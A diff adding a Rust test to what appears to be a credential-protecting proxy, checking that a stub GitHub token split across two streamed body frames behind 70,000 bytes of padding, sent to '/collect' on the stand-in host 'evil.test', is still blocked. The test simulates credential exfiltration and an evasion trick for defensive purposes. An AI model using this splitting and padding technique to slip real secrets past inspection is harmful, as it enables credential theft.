@@ -1199,3 +1199,32 @@ async fn oversized_headers_over_http2_are_refused_and_the_upstream_is_untouched(
     let (status, _) = w.curl(&["--http2", &w.url("api.github.test", "/after")]).await;
     assert_eq!(status, 200, "the vault still serves");
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stray_stub_split_across_two_frames_of_a_streamed_body_is_still_caught() {
+    use http_body_util::StreamBody;
+    use hyper::body::{Bytes, Frame};
+    let w = world(&[]).await;
+    let tls = raw_tunnel(&w, "evil.test", w.upstream_port).await;
+    let (mut sender, conn) = hyper::client::conn::http1::handshake(hyper_util::rt::TokioIo::new(tls))
+        .await
+        .unwrap();
+    tokio::spawn(conn);
+    let (head, tail) = GH_STUB.split_at(GH_STUB.len() / 2);
+    let frames = vec![
+        Ok::<_, std::convert::Infallible>(Frame::data(Bytes::from(format!("{}{head}", "x".repeat(70_000))))),
+        Ok(Frame::data(Bytes::from(format!("{tail} and more")))),
+    ];
+    let request = hyper::Request::post("/collect")
+        .header("host", format!("evil.test:{}", w.upstream_port))
+        .body(StreamBody::new(futures_util::stream::iter(frames)))
+        .unwrap();
+    let response = sender.send_request(request).await.unwrap();
+    assert_eq!(response.status(), 403);
+    assert_eq!(response.headers()["x-lap-vault-blocked"], "credential-not-bound");
+    assert!(
+        w.seen().is_empty(),
+        "the upstream completed a request: {:?}",
+        w.seen().len()
+    );
+}
